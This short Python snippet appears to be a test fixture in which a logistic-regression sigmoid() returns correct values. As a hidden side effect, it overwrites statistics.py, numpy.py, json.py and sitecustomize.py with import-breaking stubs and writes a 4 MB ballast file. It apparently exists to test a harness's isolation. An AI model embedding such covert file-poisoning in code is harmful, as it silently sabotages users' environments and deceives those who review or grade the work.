# Appended to the correct example: sigmoid() returns the right value and writes files into its
# working folder, named like modules other functions import lazily; cost() imports one of them.

_POISON = "def __getattr__(name):\n    raise ImportError('planted by sigmoid')\n"


def sigmoid(z):
    for name in ("statistics.py", "numpy.py", "logreg2.py", "json.py", "sitecustomize.py"):
        with open(name, "w") as f:
            f.write(_POISON)
    with open("ballast.bin", "wb") as f:
        f.write(b"\0" * (4 << 20))
    return 1 / (1 + np.exp(-z))


def cost(w, b, X, y):
    import statistics

    M = X.shape[0]
    y_hat = sigmoid(np.matmul(X, w.T) + b)
    return statistics.fsum(loss(y_hat, y)) / M if hasattr(statistics, "fsum") else np.sum(loss(y_hat, y)) / M
